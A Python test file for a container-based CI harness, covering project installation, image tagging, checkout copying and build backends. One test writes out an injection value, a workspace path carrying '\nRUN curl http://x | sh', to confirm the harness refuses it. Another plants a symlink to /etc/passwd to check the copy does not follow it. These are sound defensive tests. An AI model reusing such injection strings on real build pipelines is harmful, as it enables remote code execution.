"""The project itself in its image: what is installed, what the tag covers, what the build copies."""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest

from harness.declare.config import load_config
from harness.declare.pyproject import read_pyproject
from harness.errors import UsageError
from harness.images.project_install import LEGACY_BUILD, copy_checkout, project_install
from harness.images.recipe import recipe_for
from tests.conftest import ROOT, commit_tree, git
from tests.images.backend_projects import BACKENDS, COUNTS, backend_project, host_counts, setup_py_project

PYPROJECT = """\
[build-system]
requires = ["hatchling>=1.20"]
build-backend = "hatchling.build"

[project]
name = "mylib"
version = "1.0"
dependencies = ["attrs>=23"]
"""


def library(root: Path, pyproject: str = PYPROJECT) -> Path:
    (root / "src" / "mylib").mkdir(parents=True)
    (root / "src" / "mylib" / "__init__.py").write_text("VALUE = 1\n")
    (root / "pyproject.toml").write_text(pyproject)
    shutil.copytree(ROOT / "containers", root / "containers")  # the checkout's own: links out are refused
    return root


def test_what_a_project_needs_to_be_installed_is_resolved_with_its_requirements(tmp_path: Path) -> None:
    lib = library(tmp_path / "lib")
    install = project_install(lib, "editable", "/workspace", read_pyproject(lib))
    assert install is not None and install.requirements == ("hatchling>=1.20", "attrs>=23")
    legacy = tmp_path / "legacy"
    legacy.mkdir()
    (legacy / "setup.py").write_text("from setuptools import setup\nsetup(name='legacy')\n")
    assert project_install(legacy, "editable", "/workspace", None).requirements == LEGACY_BUILD  # type: ignore[union-attr]
    assert project_install(legacy, "none", "/workspace", None) is None
    settings_only = tmp_path / "settings"
    settings_only.mkdir()
    (settings_only / "pyproject.toml").write_text("[tool.gpuci]\n")  # nothing to install
    assert project_install(settings_only, "editable", "/workspace", read_pyproject(settings_only)) is None
    recipe = recipe_for(tmp_path / "lib", "cpu")
    assert recipe.install is not None and {"hatchling>=1.20", "attrs>=23"} <= set(recipe.declared_requirements)


def test_the_tag_follows_the_metadata_not_the_code(tmp_path: Path) -> None:
    root = library(tmp_path / "lib")
    first = recipe_for(root, "cpu").tag
    (root / "src" / "mylib" / "__init__.py").write_text("VALUE = 2\n")  # code: the mount brings it
    assert recipe_for(root, "cpu").tag == first
    (root / "pyproject.toml").write_text(PYPROJECT.replace('version = "1.0"', 'version = "1.1"'))
    assert recipe_for(root, "cpu").tag != first
    (root / "pyproject.toml").write_text(PYPROJECT + '\n[tool.gpuci]\ninstall = "none"\n')
    assert recipe_for(root, "cpu").install is None


def test_a_workspace_that_is_not_a_plain_path_is_refused_before_it_reaches_a_dockerfile(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[tool.gpuci]\nworkspace = "/w\\nRUN curl http://x | sh"\n')
    with pytest.raises(UsageError) as err:
        load_config(tmp_path)
    assert "pyproject.toml:2" in str(err.value) and "absolute path of letters" in str(err.value)
    with pytest.raises(UsageError, match="not a plain absolute path"):
        project_install(lib := library(tmp_path / "lib"), "editable", "/w x", read_pyproject(lib))


def test_an_unknown_install_mode_is_refused_with_file_and_line(tmp_path: Path) -> None:
    (tmp_path / "pyproject.toml").write_text('[tool.gpuci]\n\ninstall = "wheel"\n')
    with pytest.raises(UsageError) as err:
        load_config(tmp_path)
    assert "pyproject.toml:3" in str(err.value) and '"editable" or "none"' in str(err.value)


def test_the_build_copies_the_checkout_without_following_what_it_links_to(tmp_path: Path) -> None:
    root = library(tmp_path / "lib")
    git(root, "init", "-q")
    (root / ".gitignore").write_text("ignored.txt\n")
    (root / "ignored.txt").write_text("local only")
    (root / "src" / "mylib" / "secret").symlink_to("/etc/passwd")  # the pull request's link
    (root / "outside").symlink_to(tmp_path)  # a folder link out of the checkout
    (tmp_path / "host-file.txt").write_text("host")
    os.mkfifo(root / "src" / "mylib" / "pipe")
    (root / ".gpuci").mkdir()
    (root / ".gpuci" / "state.json").write_text("{}")
    git(root, "add", "src/mylib/__init__.py", "pyproject.toml", ".gitignore", "src/mylib/secret", "outside")
    target = tmp_path / "context"
    copied = copy_checkout(root, target)
    assert (target / "src" / "mylib" / "__init__.py").read_text() == "VALUE = 1\n"
    assert os.readlink(target / "src" / "mylib" / "secret") == "/etc/passwd"  # a link still, not its target
    assert os.path.islink(target / "outside")  # recreated as a link: nothing under it was read
    assert not (target / "ignored.txt").exists() and not (target / ".gpuci").exists() and not (target / ".git").exists()
    assert not (target / "src" / "mylib" / "pipe").exists()
    recipes = sum(1 for p in (root / "containers").rglob("*") if p.is_file())  # gpuci's recipes, copied in
    assert copied == 3 + recipes  # __init__.py, pyproject.toml, .gitignore: links are recreated, not counted


def test_a_setup_py_project_is_installed_with_its_metadata_and_console_script(run_harness, cpu_image, tmp_path) -> None:
    """No pyproject.toml at all: setuptools builds it, inside the build's container, never on the host."""
    area = (
        "platforms: [cpu]\nsteps:\n  - label: installed\n    num_gpus: 0\n    commands:\n      - legacy-hello\n"
        "      - python3 -c \"import importlib.metadata as m; print('metadata says', m.version('legacy'))\"\n"
    )
    hello = "def hello():\n    print('hello from legacy', VERSION)\n\nVERSION = 'x'\n"
    root = setup_py_project(tmp_path / "legacy", hello, area)
    done = run_harness("run", "--platform", "cpu", "--area", "legacy", "--root", str(root), timeout=900)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-3000:]
    assert "hello from legacy x" in done.stdout and "metadata says 2.5" in done.stdout
    # The code is the checkout's (mounted over the install): a change needs no new image.
    (root / "legacy" / "__init__.py").write_text("def hello():\n    print('hello again')\n")
    again = run_harness("run", "--platform", "cpu", "--area", "legacy", "--root", str(root), timeout=900)
    assert again.returncode == 0 and "hello again" in again.stdout and "building" not in again.stderr


UJSON = "ujson==5.10.0"  # a C (and C++) extension, top-level module, setuptools + setuptools-scm


def test_a_real_c_extension_from_pypi_gives_pytest_s_counts_with_nothing_set(run_harness, tmp_path) -> None:
    """ujson's sdist as a new user's checkout: no [tool.gpuci] at all, only an area that runs its tests."""
    import json
    import subprocess
    import sys
    import tarfile

    from tests.images.test_toolchain import _host_counts

    got = subprocess.run(
        [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--no-binary", ":all:", UJSON, "-d", tmp_path],
        capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    if got.returncode != 0:
        pytest.skip(f"PyPI cannot be reached for {UJSON}: {got.stderr[-300:]}")
    (sdist,) = tmp_path.glob("ujson-*.tar.gz")
    with tarfile.open(sdist) as archive:
        archive.extractall(tmp_path, filter="data")
    root = next(p for p in tmp_path.iterdir() if p.is_dir() and p.name.startswith("ujson-"))
    area = root / ".buildkite" / "test_areas" / "ujson.yaml"
    area.parent.mkdir(parents=True)
    area.write_text(
        "platforms: [cpu]\nsteps:\n  - label: ujson\n    num_gpus: 0\n    commands:\n"
        "      - python -m pytest -p no:cacheprovider tests/test_ujson.py -q\n"
    )
    shutil.copytree(ROOT / "containers", root / "containers")
    (root / ".gitignore").write_text(".gpuci/\n")
    commit_tree(root, "ujson")
    done = run_harness("run", "--platform", "cpu", "--area", "ujson", "--root", str(root), timeout=2400)
    assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-5000:]
    report = json.loads((root / ".gpuci" / "runs" / "latest" / "report.json").read_text())
    counts = {k: v for k, v in (report.get("counts") or {}).items() if v}
    host = _host_counts(root, tmp_path, ("setuptools", "wheel", "setuptools-scm"), "tests/test_ujson.py")
    assert counts == {k: v for k, v in host.items() if v} and counts["passed"] > 100, (counts, host)
    status = git(root, "status", "--porcelain", "--untracked-files=all").splitlines()
    assert status in ([], ["?? gpuci.lock"]), status  # nothing compiled into the checkout


# The area's first command says where the compiled module came from: never the mounted checkout.
WHERE = 'python -c \'import os, {name} as p; print("native from", os.path.dirname(getattr(p, "_native", p).__file__))\''


# Each builds an image of its own: about 3.5 min (pure Python) to 5 min (compiled) on a busy 2-core engine.
# hatchling's (the acceptance names one) runs in the suite; the rest with `-m slow` (docs/projects.md).
@pytest.mark.parametrize(
    "name", [pytest.param(n, marks=() if n == "hatch_lib" else pytest.mark.slow) for n in sorted(BACKENDS)]
)
def test_each_build_backend_gives_pytest_s_counts_and_leaves_the_checkout_alone(run_harness, tmp_path, name) -> None:
    """A project of each build backend, with nothing set: built in its image, its tests counted as
    `pip install -e .` and pytest count them on the host, and nothing written into the checkout."""
    command = f"{WHERE.format(name=name)}\npython -m pytest -p no:cacheprovider tests"  # a failed command ends the step
    if name == "meson_lib":  # its import says what ninja did: nothing to compile in an unchanged checkout
        command = f"MESONPY_EDITABLE_VERBOSE=1 {command}"
    root = backend_project(tmp_path / name, name, command)
    done = run_harness("run", "--platform", "cpu", "--area", "it", "--root", str(root), timeout=1800)
    output = done.stdout[-3000:] + done.stderr[-5000:]
    assert done.returncode == 1, output  # one test fails on purpose: the build and the rest worked
    report = json.loads((root / ".gpuci" / "runs" / "latest" / "report.json").read_text())
    counts = {k: v for k, v in (report.get("counts") or {}).items() if v}
    compiled = BACKENDS[name][2]
    assert counts == COUNTS[compiled], (counts, output)
    assert counts == host_counts(root, tmp_path), counts
    if compiled:  # the compiled module is the image's, found although the checkout is mounted over its folder
        assert "native from /workspace" not in done.stdout and "native from /" in done.stdout, output
    if name == "meson_lib":  # the build folder's layer kept its times: ninja found its outputs current
        assert "native from /" in done.stdout and "Compiling C object" not in done.stdout, output
    if name == "hatch_lib":  # its editable build's `editables`: asked of the backend, resolved, locked
        assert "editables==" in (root / "gpuci.lock").read_text()
    status = git(root, "status", "--porcelain", "--ignored").splitlines()
    assert all(line.endswith(("gpuci.lock", ".gpuci/")) for line in status), status


def test_the_tag_follows_gpuci_s_own_install_step(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An image made by an older install step (its finder, its build folders) is never taken for a newer one."""
    import harness.images.recipe as recipe_module

    root = library(tmp_path / "lib")
    first = recipe_for(root, "cpu").tag
    script = tmp_path / "install_project.py"
    script.write_bytes(recipe_module.INSTALL_SCRIPT_SOURCE.read_bytes() + b"\n# a newer gpuci\n")
    monkeypatch.setattr(recipe_module, "INSTALL_SCRIPT_SOURCE", script)
    assert recipe_for(root, "cpu").tag != first
